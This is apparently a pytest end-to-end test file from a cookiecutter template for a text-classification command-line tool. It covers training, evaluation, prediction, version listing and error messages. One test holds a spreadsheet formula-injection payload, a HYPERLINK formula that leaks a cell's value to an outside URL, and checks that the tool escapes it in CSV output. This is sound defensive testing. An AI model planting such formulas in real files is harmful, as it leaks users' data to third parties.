"""The end-to-end path a user takes: train -> evaluate -> predict, through the command line."""

import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from {{ cookiecutter.package_name }}.cli import app
from {{ cookiecutter.package_name }}.settings import (
    ENV_PREFIX,
    SETTINGS_FILE,
    Settings,
)
from {{ cookiecutter.package_name }}.store import LATEST, ModelNotFoundError, ModelStore
from {{ cookiecutter.package_name }}.training import TrainingResult

from .support import PROJECT_ROOT, UNLABELLED, write_texts, write_unlearnable_data

runner = CliRunner()


def test_train_evaluate_predict_end_to_end(workspace: Path) -> None:
    trained = runner.invoke(app, ["train"])
    assert trained.exit_code == 0, trained.output
    assert "macro-F1:" in trained.output
    assert "promoted version" in trained.output

    evaluated = runner.invoke(app, ["evaluate"])
    assert evaluated.exit_code == 0, evaluated.output
    assert trained.output.split("macro-F1:")[1][:7] == evaluated.output.split("macro-F1:")[1][:7]
    assert (workspace / "reports" / "confusion_matrix.png").is_file()

    predicted = runner.invoke(app, ["predict", "My parcel never arrived, where is it?"])
    assert predicted.exit_code == 0, predicted.output
    assert "shipping" in predicted.output

    output = workspace / "predictions.csv"
    pool = write_texts(workspace / "pool.csv", UNLABELLED)
    batch = runner.invoke(app, ["predict", "--input", str(pool), "--output", str(output)])
    assert batch.exit_code == 0, batch.output
    lines = output.read_text(encoding="utf-8").splitlines()
    assert lines[0] == "text,label,confidence"
    assert len(lines) == len(UNLABELLED) + 1

    listed = runner.invoke(app, ["versions"])
    assert listed.exit_code == 0, listed.output
    assert "latest" in listed.output
    assert "incomplete" not in listed.output

    left = workspace / "models" / "versions" / "20250102-000000-abcdef"
    left.mkdir()  # as a training stopped half-way by a power cut leaves it
    listed = runner.invoke(app, ["versions"])
    assert listed.exit_code == 0, listed.output
    row = next(line for line in listed.output.splitlines() if "20250102-000000-abcdef" in line)
    assert "incomplete" in row
    note = " ".join(listed.output.split())
    assert "1 incomplete version folder(s), without metadata.json" in note


def test_predictions_written_to_csv_cannot_run_as_spreadsheet_formulas(
    workspace: Path, trained: tuple[Settings, TrainingResult], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(f"{ENV_PREFIX}MODEL_STORE", trained[0].model_store)
    messages = workspace / "messages.csv"
    formula = '=HYPERLINK("http://example.org/?leak="&A2, "Refund")'
    pd.DataFrame({"message_id": ["m1", "m2"], "text": [formula, "Where is my parcel?"]}).to_csv(
        messages, index=False
    )
    output = workspace / "predictions.csv"
    result = runner.invoke(app, ["predict", "--input", str(messages), "--output", str(output)])
    assert result.exit_code == 0, result.output
    written = pd.read_csv(output, dtype=str, keep_default_na=False)
    assert written["text"].tolist() == ["'" + formula, "Where is my parcel?"]


def test_predicting_before_training_says_what_to_do(workspace: Path) -> None:
    result = runner.invoke(app, ["predict", "hello"])
    assert result.exit_code == 1
    assert "run `make train` first" in result.output
    assert runner.invoke(app, ["versions"]).exit_code == 1
    assert runner.invoke(app, ["evaluate"]).exit_code == 1


def test_bad_data_fails_with_the_line_and_no_traceback(
    workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bad = workspace / "bad.csv"
    bad.write_text("text,label\nHello,\n", encoding="utf-8")
    monkeypatch.setenv(f"{ENV_PREFIX}TRAINING_DATA", f'["{bad.as_posix()}"]')
    result = runner.invoke(app, ["train"])
    assert result.exit_code == 1
    assert "line 2, column 'label'" in result.output
    assert "Traceback" not in result.output


def test_a_version_trained_without_promoting_is_stored_and_not_served(workspace: Path) -> None:
    result = runner.invoke(app, ["train", "--no-promote"])
    assert result.exit_code == 0, result.output
    assert "without promoting it: 'latest' is unchanged." in " ".join(result.output.split())
    store = ModelStore(str(workspace / "models"))
    assert len(store.versions()) == 1
    with pytest.raises(ModelNotFoundError):
        store.resolve(LATEST)


def test_a_failed_quality_gate_exits_non_zero(
    workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    unlearnable = write_unlearnable_data(workspace / "noise.csv")
    monkeypatch.setenv(f"{ENV_PREFIX}TRAINING_DATA", f'["{unlearnable.as_posix()}"]')
    result = runner.invoke(app, ["train"])
    assert result.exit_code == 1
    assert "quality gate failed" in result.output
    assert "not promoted" in result.output


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        ('{"params": ', "params.json is not valid JSON: Expecting value"),
        ("[2, 5, 10]", "params.json must hold a JSON object of settings"),
        ('{"params": {"regularization_c": 0}}', "setting params.regularization_c: Input should be"),
    ],
    ids=["not-json", "not-an-object", "invalid-value"],
)
def test_a_bad_settings_file_is_refused_in_one_line(
    workspace: Path, content: str, problem: str
) -> None:
    (workspace / SETTINGS_FILE).write_text(content, encoding="utf-8")
    result = runner.invoke(app, ["versions"])
    assert result.exit_code == 1
    assert result.output.startswith(f"Error: {problem}")
    assert len(result.output.splitlines()) == 1


def test_predict_needs_input(workspace: Path) -> None:
    result = runner.invoke(app, ["predict"])
    assert result.exit_code == 1
    assert "give texts as arguments" in result.output


def test_predicting_a_file_needs_only_text_and_keeps_every_other_column(
    workspace: Path, trained: tuple[Settings, TrainingResult], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(f"{ENV_PREFIX}MODEL_STORE", trained[0].model_store)
    messages = workspace / "tickets.csv"
    messages.write_text(
        "ticket,text,channel\n007,Where is my parcel?,mail\nA2,I was charged twice,\n",
        encoding="utf-8",
    )
    output = workspace / "predictions.csv"
    result = runner.invoke(app, ["predict", "--input", str(messages), "--output", str(output)])
    assert result.exit_code == 0, result.output
    written = pd.read_csv(output, dtype=str, keep_default_na=False)
    assert written.columns.tolist() == ["ticket", "text", "channel", "label", "confidence"]
    assert written["ticket"].tolist() == ["007", "A2"]
    assert written["channel"].tolist() == ["mail", ""]
    assert written["label"].tolist() == ["shipping", "billing"]
    shown = runner.invoke(app, ["predict", "--input", str(messages)])
    assert shown.exit_code == 0, shown.output
    assert "ticket" in shown.output
    assert "mail" in shown.output


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"message,team\nhello,billing\n", "no `text` column; its columns are: message, team"),
        (b"id,text\n1,hello\n2,  \n", "Empty `text` on line(s) 3"),
        (None, "No such file or directory"),
    ],
    ids=["no-text-column", "blank-text", "missing-file"],
)
def test_a_bad_input_file_is_refused_in_one_line(
    workspace: Path, content: bytes | None, message: str
) -> None:
    path = workspace / "input.csv"
    if content is not None:
        path.write_bytes(content)
    result = runner.invoke(app, ["predict", "--input", str(path)])
    assert result.exit_code == 1
    assert f"Error: {path}: " in result.output
    assert message in result.output
    assert "Traceback" not in result.output


def test_an_empty_text_is_refused(workspace: Path) -> None:
    result = runner.invoke(app, ["predict", " "])
    assert result.exit_code == 1
    assert "a text to predict is empty" in result.output


def test_make_predict_without_text_says_how_and_fails() -> None:
    result = subprocess.run(
        ["make", "--no-print-directory", "-C", str(PROJECT_ROOT), "predict", "TEXT="],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode != 0
    assert 'Give the text to predict: make predict TEXT="' in result.stderr
    assert "Traceback" not in result.stderr


def test_the_package_runs_as_a_module() -> None:
    result = subprocess.run(
        [sys.executable, "-m", "{{ cookiecutter.package_name }}", "--help"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert "train" in result.stdout
